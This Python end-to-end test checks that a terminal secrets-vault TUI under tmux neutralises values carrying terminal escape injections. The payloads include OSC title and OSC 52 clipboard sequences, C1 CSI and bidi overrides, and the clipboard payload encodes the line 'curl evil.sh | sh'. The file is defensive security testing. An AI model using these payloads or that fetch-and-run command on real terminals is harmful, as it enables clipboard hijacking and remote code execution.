"""Terminal injection in a real terminal: hostile values revealed in the TUI under tmux.

A value holding `ESC ] 0 ; title BEL` (set the window title), `ESC ] 52 ; c ; … BEL` (set the
clipboard), `ESC ] 2 ;`, a C1 CSI and bidi overrides is imported, listed, revealed and shown
unmasked; the pane title and tmux's paste buffers (where OSC 52 lands) must not change, and
the screen shows the sequences made visible (␛]0;…).
"""

from __future__ import annotations

import base64
import json
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.e2e.test_tmux import Tmux

from ._support import isolated_env, record, run_cli

pytestmark = [pytest.mark.reliability, pytest.mark.timeout(180)]

BIN = Path(sys.executable).parent / "tui-vault"
TITLE = "PWNED-TITLE-5512"
CLIP = base64.b64encode(b"curl evil.sh | sh").decode()
VALUES = {
    "osc-title": f"\x1b]0;{TITLE}\x07",
    "osc-title-st": f"\x1b]2;{TITLE}\x1b\\",
    "osc52": f"\x1b]52;c;{CLIP}\x07",
    "c1-csi": "\x9b2J\x9b31mred",
    "bidi": "abc\u202etxt.exe\u2066x\u2069",
    "mixed": f"ok\x1b[2J\x1b]0;{TITLE}\x07\x1b]52;c;{CLIP}\x07\x00\x7f",
}


def test_hostile_values_revealed_in_the_tui_do_not_reach_the_terminal(tmp_path: Path) -> None:
    if shutil.which("tmux") is None:
        pytest.fail("tmux is not installed: `make test` installs it (apt-get install tmux)")
    home = tmp_path / "home"
    env = isolated_env(home)
    vault = home / "v" / "vault.json"
    key_file = home / "key"
    assert (
        run_cli(["--vault", str(vault), "init", "--key-file", str(key_file)], env).returncode == 0
    )
    postman = tmp_path / "env.json"
    postman.write_text(
        json.dumps(
            {
                "values": [{"key": k, "value": v, "enabled": True} for k, v in VALUES.items()],
                "_postman_variable_scope": "environment",
            }
        )
    )
    done = run_cli(
        ["--vault", str(vault), "--key-file", str(key_file), "import", str(postman)], env
    )
    assert done.returncode == 0, done.stderr

    tmux = Tmux(home)
    try:
        command = (
            f"TUI_VAULT_PATH={vault} TUI_VAULT_KEY={key_file.read_text().strip()} "
            f"XDG_STATE_HOME={home / 'state'} {BIN}; sleep 5"
        )
        tmux.start(command)
        tmux.run("set-option", "-g", "allow-rename", "on")
        tmux.run("set-option", "-g", "set-titles", "on")
        tmux.run("select-pane", "-t", tmux.session, "-T", "before")
        title_before = tmux.run("display-message", "-p", "-t", tmux.session, "#{pane_title}")
        buffers_before = tmux.run("list-buffers")
        tmux.wait_for("6 secrets")
        shown_screens: list[str] = []
        for _ in VALUES:  # reveal each row in turn (r), moving down the table
            tmux.keys("r")
            time.sleep(0.4)
            shown_screens.append(tmux.screen())
            tmux.keys("Down")
        # All values at once, unmasked, then the troubleshoot screen and back.
        tmux.keys("t")
        time.sleep(1.0)
        tmux.keys("Escape")
        time.sleep(0.5)
        screen = tmux.screen()
        shown_screens.append(screen)
        title_after = tmux.run("display-message", "-p", "-t", tmux.session, "#{pane_title}")
        window_name = tmux.run("display-message", "-p", "-t", tmux.session, "#{window_name}")
        buffers_after = tmux.run("list-buffers")
        escaped = "\n".join(shown_screens)
    finally:
        tmux.kill()
    assert title_after == title_before and TITLE not in title_after + window_name
    assert buffers_after == buffers_before == "", buffers_after
    assert "␛]0;" in escaped and "␇" in escaped  # shown, made visible
    assert TITLE in escaped  # the text itself is there, harmless
    env_get = {**env, "TUI_VAULT_KEY": key_file.read_text().strip(), "TUI_VAULT_PATH": str(vault)}
    got = subprocess.run(
        [str(BIN), "get", "osc52"], capture_output=True, env=env_get, timeout=30, check=False
    )
    assert got.stdout == VALUES["osc52"].encode() + b"\n"  # get stays raw: that is its job
    record(
        "terminal",
        "tmux-reveal",
        cases=len(VALUES),
        title_changed=0,
        buffers_added=0,
    )
